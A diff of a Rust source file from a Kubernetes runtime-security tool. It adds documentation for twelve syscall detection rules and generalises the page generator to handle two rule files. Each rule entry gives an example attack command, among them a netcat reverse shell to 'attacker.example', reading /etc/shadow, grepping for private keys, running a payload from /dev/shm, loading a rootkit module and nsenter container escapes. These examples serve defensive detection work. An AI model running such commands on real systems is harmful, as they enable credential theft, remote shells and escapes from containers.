@@ -1,4 +1,4 @@
-//! Documentation pages of the built-in audit rules, generated from the rule file (name,
+//! Documentation pages of the built-in rules (audit and syscall), generated from the rule files (name,
 //! description, priority, tags, condition, the macros and lists it uses) and the explanations
 //! below. `docs/runtime-rules/` in the repository is this output; a test keeps it current.
 
@@ -7,12 +7,13 @@ use std::fmt::Write;
 
 use crate::loader::RuleInfo;
 
-use super::{loader, rule_id};
+use super::{loader, rule_id, syscall_loader};
+use crate::loader::RuleLoader;
 
 /// What a page says beyond the rule file.
 #[derive(Debug, Clone, Copy)]
 pub struct RuleDoc {
-    /// The rule id (`KSO-Annn`, the rule's tag).
+    /// The rule id (`KSO-Annn` or `KSO-Ynnn`, the rule's tag).
     pub id: &'static str,
     /// Why the event matters to a defender.
     pub why: &'static str,
@@ -140,6 +141,78 @@ pub const RULE_DOCS: &[RuleDoc] = &[
         response: "Check the image (in the output) and the reason for debugging; restrict \
                    `update`/`patch` on `pods/ephemeralcontainers`.",
     },
+    RuleDoc {
+        id: "KSO-Y001",
+        why: "Password hashes in /etc/shadow can be cracked offline and sudoers shows who can become root. Outside the account tools, a read of these files is credential access (MITRE ATT&CK T1003.008), often the first thing an intruder does after landing in a container that runs as root.",
+        example: "kubectl exec -n shop deploy/cart -- cat /etc/shadow",
+        response: "Look at the command line and the parent: a shell started by `kubectl exec` or by a web server process is suspect. Add legitimate readers to the list `kso_credential_readers` in your own rules file (`append: true`).",
+    },
+    RuleDoc {
+        id: "KSO-Y002",
+        why: "Containers are meant to run one program without a human. A shell with a terminal means someone typed `kubectl exec -it` (debugging in production) or an attacker with credentials or a remote-code-execution bug opened one.",
+        example: "kubectl exec -it -n shop deploy/cart -- sh",
+        response: "Match the time with the API server's audit log (rule KSO-A001 reports the exec with the user). Prefer ephemeral debug containers, and restrict `pods/exec` with RBAC.",
+    },
+    RuleDoc {
+        id: "KSO-Y003",
+        why: "`nc -e` connects a program, usually a shell, to a network peer: a reverse or bind shell in one command (MITRE ATT&CK T1059). Images rarely need netcat at all, and never with these options in normal operation.",
+        example: "nc attacker.example 4444 -e /bin/sh",
+        response: "Treat it as an intrusion: find the peer (a connect event from the same process), the parent that started netcat, and how it got there. Remove netcat from images that do not need it.",
+    },
+    RuleDoc {
+        id: "KSO-Y004",
+        why: "Private keys and SSH key files are what an intruder harvests to move on to other hosts and services (MITRE ATT&CK T1552.004). Grepping a file system for `BEGIN ... PRIVATE KEY` headers is the usual way.",
+        example: "grep -r \"BEGIN RSA PRIVATE\" /",
+        response: "Check the parent and the container. Rotate keys stored where the search ran. Build scripts that search for keys on purpose can be excepted by process or container image.",
+    },
+    RuleDoc {
+        id: "KSO-Y005",
+        why: "/dev/shm is a writable memory file system in every container; payloads staged there leave no file on the image's layers and survive container restarts while the pod lives. Legitimate programs are not installed there.",
+        example: "cp /tmp/payload /dev/shm/x && /dev/shm/x",
+        response: "Collect the binary (`/proc/PID/exe` while it runs) and find how it was written. Mount /dev/shm with `noexec` where the platform allows it.",
+    },
+    RuleDoc {
+        id: "KSO-Y006",
+        why: "A program executed from a memfd never exists as a file: no file scanner or image scan can see it (MITRE ATT&CK T1620, reflective code loading). Malware droppers use it to run payloads downloaded straight into memory.",
+        example: "a program that calls memfd_create, writes an ELF into it and runs fexecve on it",
+        response: "Treat it as an intrusion unless the program is known to do this (runc re-executes itself this way and is excepted): dump the process memory and find its parent. Add known runners to `kso_memfd_runners`.",
+    },
+    RuleDoc {
+        id: "KSO-Y007",
+        why: "Kernel modules run with full kernel privileges; loading one after boot is how rootkits install themselves (MITRE ATT&CK T1547.006). On a Kubernetes node, modules are loaded by the node's own tooling at boot, not by workloads.",
+        example: "insmod /tmp/rootkit.ko",
+        response: "Find which module was loaded (`lsmod`, `dmesg`) and who ran the loader. Nodes that never load modules can disable loading (`kernel.modules_disabled=1`). On kernels built without module support there is nothing to watch and the sensor says so at start.",
+    },
+    RuleDoc {
+        id: "KSO-Y008",
+        why: "ptrace lets a process read and write another process's memory and registers: code injection, credential theft from memory, or escaping a sandbox through a privileged neighbour (MITRE ATT&CK T1055.008).",
+        example: "gdb -p 1234, or strace -p 1234",
+        response: "Check whether a debugger session was expected. Containers do not need `CAP_SYS_PTRACE`; drop it, and keep `kernel.yama.ptrace_scope` at 1 or more on nodes.",
+    },
+    RuleDoc {
+        id: "KSO-Y009",
+        why: "setns and unshare change which namespaces a process sees. Entering the host's namespaces from a container (for example through a host PID namespace and `nsenter -t 1`) is a container escape (MITRE ATT&CK T1611).",
+        example: "nsenter -t 1 -m -u -i -n sh   (from a privileged container with hostPID)",
+        response: "Check the container's privileges (hostPID, privileged, capabilities) and whether the program is a known container tool; add those to `kso_container_runtimes`.",
+    },
+    RuleDoc {
+        id: "KSO-Y010",
+        why: "The bpf system call loads programs into the kernel that can watch or change the whole node. A container able to do it holds `CAP_BPF` or `CAP_SYS_ADMIN`: effectively node root (MITRE ATT&CK T1611).",
+        example: "bpftool prog load ./probe.o /sys/fs/bpf/probe   (inside a privileged container)",
+        response: "Only node agents (CNI plugins, observability and security agents) should do this; except their images by `container.image.repository` and remove the capability elsewhere.",
+    },
+    RuleDoc {
+        id: "KSO-Y011",
+        why: "A link to /etc/shadow or /etc/sudoers gives a second path to the file that rules and file integrity monitors watching the real path do not see, for reading hashes or for writing a new root entry.",
+        example: "ln -s /etc/shadow /tmp/notes.txt",
+        response: "Remove the link and find what created it. A program that links credential files on purpose is rare enough to except by name.",
+    },
+    RuleDoc {
+        id: "KSO-Y012",
+        why: "Mounting a file system from a container, such as the host's disk device or the cgroup file system, is a common escape from privileged containers (MITRE ATT&CK T1611): the release_agent trick and host disk access both start with a mount.",
+        example: "mount /dev/vda1 /mnt   (inside a privileged container)",
+        response: "Containers should not have `CAP_SYS_ADMIN` or be privileged; enforce the Pod Security Standards `baseline` level. Add container tools that mount on purpose to `kso_container_runtimes`.",
+    },
 ];
 
 /// The explanations of a rule id.
@@ -147,15 +220,30 @@ pub fn rule_doc(id: &str) -> Option<&'static RuleDoc> {
     RULE_DOCS.iter().find(|d| d.id == id)
 }
 
-/// The built-in rules as collected from the rule file, in file order, with their ids.
-fn rules() -> Vec<(String, RuleInfo)> {
-    let loader = loader();
-    loader
-        .rules
-        .items
-        .iter()
-        .map(|r| (rule_id(r.tags.iter()).unwrap_or("(no id)").to_string(), r.clone()))
-        .collect()
+/// A built-in rule file: where it lives in the repository and its loader.
+struct Family {
+    path: &'static str,
+    loader: fn() -> RuleLoader,
+}
+
+/// The built-in rule files, audit rules first.
+const FAMILIES: [Family; 2] = [
+    Family { path: "crates/runtime/src/builtin/kubesecops_audit_rules.yaml", loader },
+    Family { path: "crates/runtime/src/builtin/kubesecops_syscall_rules.yaml", loader: syscall_loader },
+];
+
+/// The built-in rules as collected from the rule files, in file order, with their ids and
+/// the file each comes from.
+fn rules() -> Vec<(String, RuleInfo, &'static Family)> {
+    let mut out = Vec::new();
+    for family in &FAMILIES {
+        let loader = (family.loader)();
+        for rule in &loader.rules.items {
+            let id = rule_id(rule.tags.iter()).unwrap_or("(no id)").to_string();
+            out.push((id, rule.clone(), family));
+        }
+    }
+    out
 }
 
 /// Names in a condition: runs of letters, digits, `_`, `.` and `-`.
@@ -165,8 +253,8 @@ fn words(text: &str) -> impl Iterator<Item = &str> {
 }
 
 /// The page of one rule.
-fn rule_page(id: &str, rule: &RuleInfo) -> String {
-    let loader = loader();
+fn rule_page(id: &str, rule: &RuleInfo, family: &Family) -> String {
+    let loader = (family.loader)();
     let doc = rule_doc(id);
     let mut page = format!("# {id}: {}\n\n", rule.name);
     page.push_str("| | |\n|---|---|\n");
@@ -180,7 +268,7 @@ fn rule_page(id: &str, rule: &RuleInfo) -> String {
         "| MITRE ATT&CK | {} |",
         if mitre.is_empty() { "none".into() } else { mitre.join(", ") }
     );
-    let _ = writeln!(page, "| Rule file | `crates/runtime/src/builtin/kubesecops_audit_rules.yaml` |\n");
+    let _ = writeln!(page, "| Rule file | `{}` |\n", family.path);
     let _ = writeln!(page, "## What it detects\n{}\n", one_line(&rule.desc));
     if let Some(doc) = doc {
         let _ = writeln!(page, "## Why it matters\n{}\n", one_line(doc.why));
@@ -234,16 +322,17 @@ fn one_line(text: &str) -> String {
 }
 
 /// The index page listing every built-in rule.
-fn index_page(rules: &[(String, RuleInfo)]) -> String {
+fn index_page(rules: &[(String, RuleInfo, &'static Family)]) -> String {
     let mut page = String::from(
         "# Built-in runtime rules\n\nGenerated from `crates/runtime/src/builtin/`; do not edit by hand \
          (`KUBESECOPS_UPDATE_DOCS=1 cargo test -p kubesecops-runtime builtin` rewrites these pages).\n\n\
-         `kubesecops runtime replay` and `kubesecops runtime serve` use these rules when no `--rules` \
-         file is given. They are a Falco rule file (source `k8s_audit`): tune them with rule files of \
-         your own loaded after them.\n\n\
+         Two Falco rule files: the `KSO-A` rules (source `k8s_audit`) are what `kubesecops runtime \
+         replay` and `kubesecops runtime serve` use on audit events when no `--rules` file is given; \
+         the `KSO-Y` rules (source `syscall`) are what `kubesecops runtime sensor` and `runtime replay \
+         --source syscall` use. Tune them with rule files of your own loaded after them.\n\n\
          | Id | Rule | Priority | Tags |\n|---|---|---|---|\n",
     );
-    for (id, rule) in rules {
+    for (id, rule, _) in rules {
         let tags: Vec<&str> = rule.tags.iter().map(String::as_str).filter(|t| t != id).collect();
         let _ = writeln!(
             page,
@@ -256,10 +345,11 @@ fn index_page(rules: &[(String, RuleInfo)]) -> String {
     page
 }
 
-/// Every generated page as (file name, content): `README.md` and one `KSO-Annn.md` per rule.
+/// Every generated page as (file name, content): `README.md` and one `KSO-Annn.md` or
+/// `KSO-Ynnn.md` per rule.
 pub fn all_pages() -> Vec<(String, String)> {
     let rules = rules();
     let mut pages = vec![("README.md".to_string(), index_page(&rules))];
-    pages.extend(rules.iter().map(|(id, rule)| (format!("{id}.md"), rule_page(id, rule))));
+    pages.extend(rules.iter().map(|(id, rule, family)| (format!("{id}.md"), rule_page(id, rule, family))));
     pages
 }
